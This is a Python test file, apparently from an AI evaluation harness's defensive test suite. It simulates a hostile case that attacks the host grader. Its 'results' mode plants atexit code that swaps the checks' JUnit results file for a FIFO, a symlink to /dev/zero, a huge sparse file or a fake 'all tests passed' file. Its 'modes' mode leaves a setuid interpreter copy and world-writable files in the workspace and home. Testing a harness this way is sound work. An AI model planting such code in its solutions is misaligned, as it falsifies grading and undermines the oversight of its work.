#!/usr/bin/env python3
"""A hostile Case that attacks the host side with what it leaves behind (issue 22): each
--mode is one attack, tried for real. Stdlib only. Every mode then asks the relay once and
writes a correct solution, so the run would pass if the harness fell for nothing.

results --attack A: plants code in the solution that, when the checks' pytest exits (after
        it wrote its JUnit XML), replaces /checks/out/junit.xml by:
          fifo-swap  a link to the host path of a FIFO the Case made in its workspace (read
                     from /proc/self/mountinfo): whoever follows it waits forever
          fifo       a FIFO
          huge       a 1 GiB sparse file (under the disk budget, far over the reader's bound)
          devzero    a link to /dev/zero
          many       JUnit XML whose testsuite says tests="many"
          notxml     a file that is not XML
modes   leaves, in its workspace and its home, a copy of the interpreter made setuid and
        setgid (6755), a world-writable file (0666), a world-writable sticky folder (1777),
        a setgid folder (2775), and a `user.planted` extended attribute on a file
"""

import argparse
import os
import shutil
import sys

from hostile import GOOD, ask  # its neighbour: the same solution, the same one request

PLANT = '''

def _swap():
    import os
    out = "/checks/out/junit.xml"
    attack = "{attack}"
    try:
        os.unlink(out)
    except OSError:
        pass
    if attack == "fifo-swap":
        host = None
        with open("/proc/self/mountinfo") as fh:
            for line in fh:
                fields = line.split()
                if fields[4] == "/workspace":
                    host = fields[3]
        os.symlink((host or "/workspace") + "/pipe", out)
    elif attack == "fifo":
        os.mkfifo(out)
    elif attack == "huge":
        with open(out, "wb") as fh:
            fh.truncate(2**30)
    elif attack == "devzero":
        os.symlink("/dev/zero", out)
    elif attack == "many":
        with open(out, "w") as fh:
            fh.write('<testsuites><testsuite name="pytest" tests="many" failures="0" '
                     'errors="0" skipped="0"/></testsuites>')
    elif attack == "notxml":
        with open(out, "w") as fh:
            fh.write("all tests passed, trust me")


import atexit  # noqa: E402

atexit.register(_swap)
'''


def modes(where: str) -> None:
    """The leftovers of `modes` in folder `where`."""
    py = os.path.join(where, "py")
    shutil.copyfile(os.path.realpath(sys.executable), py)
    os.chmod(py, 0o6755)
    shared = os.path.join(where, "shared.txt")
    with open(shared, "w") as fh:
        fh.write("anyone may write here\n")
    os.chmod(shared, 0o666)
    for name, mode in (("drop", 0o1777), ("group", 0o2775)):
        os.mkdir(os.path.join(where, name))
        os.chmod(os.path.join(where, name), mode)
    os.setxattr(shared, "user.planted", b"hidden beside the contents")
    print(f"case: modes left in {where}", flush=True)


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--mode", required=True)
    p.add_argument("--attack", default="")
    p.add_argument("--workspace", default=os.environ.get("CTO_HARNESS_WORKSPACE", "."))
    p.add_argument("--model", default=os.environ.get("CTO_HARNESS_CASE_MODEL"))
    a = p.parse_args()
    source = GOOD
    if a.mode == "results":
        if a.attack == "fifo-swap":
            os.mkfifo(os.path.join(a.workspace, "pipe"))
        source = GOOD + PLANT.replace("{attack}", a.attack)
    elif a.mode == "modes":
        modes(a.workspace)
        modes(os.environ["HOME"])
    if not ask(a.model):
        return 3
    with open(os.path.join(a.workspace, "slugify.py"), "w") as fh:
        fh.write(source)
    print("case: wrote slugify.py", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
